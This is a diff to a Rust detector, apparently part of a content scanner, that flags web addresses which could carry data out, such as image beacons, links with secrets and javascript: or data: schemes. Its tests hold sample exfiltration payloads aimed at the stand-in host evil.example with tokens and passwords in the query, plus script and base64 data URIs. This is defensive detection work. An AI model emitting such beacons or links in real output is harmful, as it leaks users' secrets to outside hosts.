@@ -7,16 +7,18 @@
 //! `hxxps` and the first dot of the host `[.]`, so that it can be read and not followed.
 
 use super::{Rail, Saw, Sight, Text};
-use regex::Regex;
+use regex::bytes::{Regex, RegexBuilder};
 use std::sync::LazyLock;
 
 /// Looks for addresses that could carry data out.
 pub const RAIL: Rail = Rail { name: "egress", look };
 
 /// Markdown pictures and links, HTML attributes, bare addresses: which of them is which decides the name of the group.
+///
+/// They are looked for byte by byte, which compiles ten times as fast; each begins and ends beside an ASCII character.
 static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(
-        r#"(?xi)
+    RegexBuilder::new(
+        r#"(?xim)
         !\[[^\]]{0,500}\]\(\s*<?(?P<picture>[^\s)<>]+)
       | <(?:img|iframe|script|video|audio|source|embed|object|link|input|image)\b[^<>]{0,500}?\s(?:src|href|data|poster|srcset)\s*=\s*["']?(?P<fetched>[^\s"'<>]+)
       | ^\s{0,3}\[[^\]]{1,200}\]:\s*<?(?P<reference>(?:[a-z][a-z0-9+.-]*:)?//[^\s<>]+)
@@ -24,32 +26,46 @@ static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
       | (?P<bare>\b(?:https?|ftp|wss?)://[^\s<>"'`)\]}]+)
         "#,
     )
+    .unicode(false)
+    .build()
     .expect("a test compiles it")
 });
+
+/// Whether `data` or `…script` stands before a colon.
+fn names_active_scheme(text: &str) -> bool {
+    text.match_indices(':').any(|(at, _)| {
+        let before = text[..at].trim_end().as_bytes();
+        ["data", "script"].iter().any(|scheme| {
+            before.len() >= scheme.len()
+                && before[before.len() - scheme.len()..].eq_ignore_ascii_case(scheme.as_bytes())
+        })
+    })
+}
 
 /// From this many characters on a value may be a message.
 const LONG: usize = 40;
 
 fn look(text: &Text<'_>) -> Saw {
     let text = text.original();
-    if !(text.contains("//") || text.contains("](") || text.contains(':')) {
+    if !(text.contains("//") || text.contains("](") || names_active_scheme(text)) {
         return Saw::default();
     }
     let mut sights = Vec::new();
-    for found in ADDRESS.captures_iter(text) {
+    for found in ADDRESS.captures_iter(text.as_bytes()) {
         let group = ["picture", "fetched", "reference", "active", "bare"]
             .into_iter()
-            .find_map(|name| found.name(name).map(|address| (name, address)));
-        let Some((name, address)) = group else { continue };
-        let (kind, score, note) = judged(name, address.as_str());
+            .find_map(|name| found.name(name).map(|address| (name, address.range())));
+        let Some((name, span)) = group else { continue };
+        let Some(address) = text.get(span.clone()) else { continue };
+        let (kind, score, note) = judged(name, address);
         if score > 0.0 {
             sights.push(Sight {
                 kind,
                 score,
-                span: Some(address.range()),
+                span: Some(span),
                 note: note.into(),
                 sensitive: false,
-                instead: Some(neutral(address.as_str()).into()),
+                instead: Some(neutral(address).into()),
             });
         }
     }
@@ -148,6 +164,9 @@ mod tests {
         check("<img width=1 src=\"https://evil.example/?token=abc\">", &["beacon"]);
         check("[click](https://evil.example/?password=hunter2)", &["loaded_link"]);
         check("see [here](javascript:alert(1))", &["active_address"]);
+        check("see JavaScript :alert(1)", &["active_address"]);
+        check("first line\n[x]: //evil.example/?token=abc", &["loaded_link"]);
+        check("see DaTa:text/html;base64,PGI+", &["active_address"]);
         check("see data:text/html;base64,PGI+", &["active_address"]);
         check("http://10.1.2.3/?q=hello", &["loaded_link"]);
     }
